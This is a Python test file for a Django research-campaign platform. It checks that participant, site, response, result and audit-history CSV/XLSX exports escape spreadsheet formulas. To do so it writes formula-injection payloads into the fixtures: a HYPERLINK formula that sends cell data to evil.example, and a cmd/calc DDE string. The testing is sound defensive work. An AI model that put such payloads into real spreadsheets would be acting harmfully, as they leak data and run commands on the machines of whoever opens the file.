"""Every CSV and XLSX the product lets people download escapes spreadsheet formulas.

Cells beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are run by
spreadsheet programs (OWASP "CSV injection"). Each export below is fed such values through the
fields people type (site names, participant codes, campaign titles, outcome labels, log entry
labels) and no cell of the file may begin with one unescaped.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from livinglab.campaigns import audit
from livinglab.campaigns.models import Campaign, Participant, Site
from livinglab.core.spreadsheets import FORMULA_PREFIXES
from livinglab.evaluation.measurement.exports import responses_export
from livinglab.evaluation.models import Outcome
from livinglab.evaluation.runs import services
from livinglab.evaluation.runs.document import results_csv, results_xlsx
from tests.builders import simulate_campaign
from tests.campaigns.conftest import make_user

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Campagne")'
LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
SITE = "+33 1 23 45"
CODE = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"


def cells_of(content: bytes, file_format: str) -> list[str]:
    if file_format == "csv":
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]  # no formula cell at all
    # XML turns a carriage return into a line feed: read it back as the CR that was written.
    return [cell.value.replace("\n", "\r") for cell in cells if isinstance(cell.value, str)]


def assert_escaped(cells: list[str], *expected: str) -> None:
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert not dangerous, dangerous
    for value in expected:
        assert "'" + value in cells, f"{value!r} not found escaped"


@pytest.fixture
def campaign():
    campaign = simulate_campaign(slug="formules", n_per_group=12, subgroups=(), sites=2)
    Campaign.objects.filter(pk=campaign.pk).update(title=TITLE)
    Outcome.objects.filter(protocol__campaign=campaign).update(label=LABEL)
    participant = campaign.participants.order_by("code").first()
    Site.objects.filter(pk=participant.site_id).update(name=SITE)
    Participant.objects.filter(pk=participant.pk).update(code=CODE)
    campaign.refresh_from_db()
    return campaign


@pytest.fixture
def manager(campaign):
    return make_user("manager", organisation=campaign.lead_organisation, role="manager")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_participants_export(client, campaign, manager, file_format):
    client.force_login(manager)
    url = reverse("campaigns_transfers:export", args=["participants"])
    response = client.get(url, {"campaign": campaign.pk, "format": file_format})
    assert response.status_code == 200
    assert_escaped(cells_of(response.content, file_format), CODE, SITE)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_sites_export(client, campaign, manager, file_format):
    Site.objects.create(name=TAB, setting="school", city=CR, postcode="34000")
    client.force_login(manager)
    url = reverse("campaigns_transfers:export", args=["sites"])
    response = client.get(url, {"format": file_format})
    assert response.status_code == 200
    assert_escaped(cells_of(response.content, file_format), SITE, TAB, CR)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_responses_export(campaign, manager, file_format):
    content = responses_export(campaign=campaign, fmt=file_format, user=manager)
    assert_escaped(cells_of(content, file_format), CODE, SITE)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_results_downloads(client, campaign, manager, file_format):
    run = services.evaluation_run_start(campaign=campaign, enqueue=False)
    run = services.evaluation_run_execute(run_id=run.pk)
    assert run.status == "succeeded", run.error
    client.force_login(manager)
    response = client.get(reverse("evaluation_runs:download", args=[run.pk, file_format]))
    assert response.status_code == 200
    expected = [LABEL] + ([TITLE] if file_format == "xlsx" else [])  # the title: summary sheet
    assert_escaped(cells_of(response.content, file_format), *expected)
    render = results_csv if file_format == "csv" else results_xlsx
    assert_escaped(cells_of(render(run.result), file_format), *expected)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_wagtail_site_history_export(client, campaign, file_format):
    audit.record(campaign, "livinglab.evaluation", data={})
    root = make_user("root", is_superuser=True, is_staff=True)
    client.force_login(root)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": file_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_escaped(cells_of(content, file_format), TITLE)
